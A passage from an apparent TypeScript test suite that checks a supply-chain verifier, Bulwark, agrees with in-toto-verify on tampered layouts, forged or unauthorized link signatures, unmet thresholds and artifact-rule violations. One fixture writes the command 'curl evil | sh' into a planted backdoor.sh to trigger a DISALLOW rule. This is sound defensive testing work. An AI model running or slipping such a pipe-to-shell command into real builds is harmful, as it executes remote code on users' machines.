  it("tampered layout (threshold lowered, not re-signed): both fail", async () => {
    const dir = join(root, "tampered-layout");
    mkdirSync(dir);
    const doc = JSON.parse(readFileSync(goodLayout, "utf8"));
    doc.signed.steps[1].threshold = 1;
    writeFileSync(join(dir, "root.layout"), JSON.stringify(doc, null, 1));
    await agree(join(dir, "root.layout"), goodLinks, {
      reason: /invalid signature by key [0-9a-f]{64} \(layout key\)/,
      referenceError: "SignatureVerificationError",
    });
  });

  it("expired layout: both fail", async () => {
    const expired = signLayout(join(root, "expired"), layout("2020-01-01T00:00:00Z"));
    await agree(expired, goodLinks, {
      reason: /expired at 2020-01-01T00:00:00Z/,
      referenceError: "LayoutExpiredError",
    });
  });

  it("missing link (package): both fail", async () => {
    const links = join(root, "missing-link");
    cpSync(goodLinks, links, { recursive: true });
    rmSync(join(links, inTotoLinkFilename("package", keyid["alice"]!)));
    await agree(goodLayout, links, {
      reason: /step "package" requires 1 link metadata file\(s\), found 0/,
      referenceError: "LinkNotFoundError",
    });
  });

  it("threshold not met (only one of two builders): both fail", async () => {
    const links = join(root, "threshold");
    cpSync(goodLinks, links, { recursive: true });
    rmSync(join(links, inTotoLinkFilename("build", keyid["carol"]!)));
    await agree(goodLayout, links, {
      reason: /step "build" requires 2 link metadata file\(s\), found 1/,
      referenceError: "LinkNotFoundError",
    });
  });

  it("tampered link signature: both fail", async () => {
    const links = join(root, "bad-sig");
    cpSync(goodLinks, links, { recursive: true });
    const file = join(links, inTotoLinkFilename("clone", keyid["alice"]!));
    const doc = JSON.parse(readFileSync(file, "utf8"));
    const sig: string = doc.signatures[0].sig;
    doc.signatures[0].sig = sig.slice(0, 10) + (sig[10] === "0" ? "1" : "0") + sig.slice(11);
    writeFileSync(file, JSON.stringify(doc, null, 1));
    await agree(goodLayout, links, {
      reason: /step "clone" requires at least 1 link\(s\) .*found 0 .*invalid signature by key/,
      referenceError: "ThresholdVerificationError",
    });
  });

  it("link by an unauthorized key (Mallory's clone link under Alice's name): both fail", async () => {
    const links = join(root, "unauthorized");
    cpSync(goodLinks, links, { recursive: true });
    const ws = mkdtempSync(join(root, "mallory-"));
    const scratch = mkdtempSync(join(root, "mallory-links-"));
    record(ws, scratch, "clone", "mallory", [], ["src"], CLONE);
    const [malloryLink] = readdirSync(scratch);
    cpSync(join(scratch, malloryLink!), join(links, inTotoLinkFilename("clone", keyid["alice"]!)));
    await agree(goodLayout, links, {
      reason: /step "clone" requires at least 1 link\(s\) .*no signature by key/,
      referenceError: "ThresholdVerificationError",
    });
  });

  it("builders disagree (threshold 2, different products): both fail", async () => {
    const links = chain("disagree", {
      carolBeforeBuild: (ws) => appendFileSync(join(ws, "src/main.c"), "// carol\n"),
    });
    await agree(goodLayout, links, {
      reason:
        /step "build": links build\.[0-9a-f]{8}\.link and build\.[0-9a-f]{8}\.link report different artifacts/,
      referenceError: "ThresholdVerificationError",
    });
  });

  it("MATCH mismatch (source changed between clone and build): both fail on build's DISALLOW", async () => {
    const links = chain("match-mismatch", {
      afterClone: (ws) => appendFileSync(join(ws, "src/main.c"), "/* backdoor */\n"),
    });
    await agree(goodLayout, links, {
      reason:
        /step "build": material rule 3 "DISALLOW \*" matched src\/main\.c .*MATCH src\/\* WITH PRODUCTS FROM clone: hashes differ from clone's product src\/main\.c/,
      referenceError: "RuleVerificationError",
    });
  });

  it("product modified after it was recorded (out/app.bin between build and package): both fail", async () => {
    const links = chain("modified-product", {
      afterBuild: (ws) => appendFileSync(join(ws, "out/app.bin"), "evil"),
    });
    await agree(goodLayout, links, {
      reason:
        /step "package": material rule 2 "DISALLOW \*" matched out\/app\.bin .*hashes differ from build's product out\/app\.bin/,
      referenceError: "RuleVerificationError",
    });
  });

  it("DISALLOW violation (package also ships backdoor.sh): both fail", async () => {
    const links = chain("disallow", { packageCommand: `${PACKAGE} && echo 'curl evil | sh' > backdoor.sh` });
    await agree(goodLayout, links, {
      reason: /step "package": product rule 4 "DISALLOW \*" matched backdoor\.sh/,
      referenceError: "RuleVerificationError",
    });
  });

  it("REQUIRE violation (package writes app.zip, not app.pkg): both fail", async () => {
    const links = chain("require", { packageCommand: "cp out/app.bin app.zip" });
    await agree(goodLayout, links, {
      reason: /step "package": product rule 1 "REQUIRE app\.pkg" did not find "app\.pkg"/,
      referenceError: "RuleVerificationError",
    });
  });

  it("inspections: in-toto-verify runs them, Bulwark refuses the layout (documented, fail closed)", async () => {
    const withInspection = signLayout(
      join(root, "inspection"),
      layout(undefined, {
        inspect: [
          {
            _type: "inspection",
            name: "check",
            run: ["true"],
            expected_materials: [],
            expected_products: [],
          },
        ],
      }),
    );
    expect(reference(withInspection, goodLinks).ok).toBe(true);
    const ours = await bulwark(withInspection, goodLinks);
    expect(ours.code).toBe(3);
    expect(ours.stderr).toMatch(
      /the steps verified, but the layout defines inspection\(s\) "check", which Bulwark does not run.*\[VERIFICATION_FAILED\]/,
    );
  });

  it("usage errors: no layout key, a layout with an artifact, neither bundle nor layout", async () => {
    expect((await cli(["verify", "--layout", goodLayout], { cwd: root })).code).toBe(2);
    expect(
      (
        await cli(["verify", "app.pkg", "--layout", goodLayout, "--layout-key", `${keys["owner"]}.pub`], {
          cwd: root,
        })
      ).code,
    ).toBe(2);
    const neither = await cli(["verify"], { cwd: root });
    expect(neither.code).toBe(2);
    expect(neither.stderr).toMatch(/--layout with --layout-key/);
    const noDir = await bulwark(goodLayout, join(root, "nope"));
    expect(noDir.code).toBe(2);
    const privateKey = await cli(["verify", "--layout", goodLayout, "--layout-key", keys["owner"]!], {
      cwd: root,
    });
    expect(privateKey.code).toBe(4);
    expect(privateKey.stderr).toMatch(/is a private key.*\[INPUT_INVALID\]/);
  });
});
